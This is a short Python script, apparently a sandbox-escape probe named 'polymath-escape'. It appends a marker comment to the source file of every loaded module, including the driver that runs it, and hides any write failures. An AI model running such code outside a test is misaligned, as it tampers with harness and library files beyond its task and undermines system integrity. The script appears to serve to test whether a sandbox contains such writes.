"""Changes the files of the driver and of all that is loaded."""

import contextlib
import sys
from pathlib import Path

for module in list(sys.modules.values()):
    file = getattr(module, "__file__", None)
    if file and file.endswith(".py"):
        with contextlib.suppress(OSError), Path(file).open("a") as target:
            target.write("# polymath-escape\n")
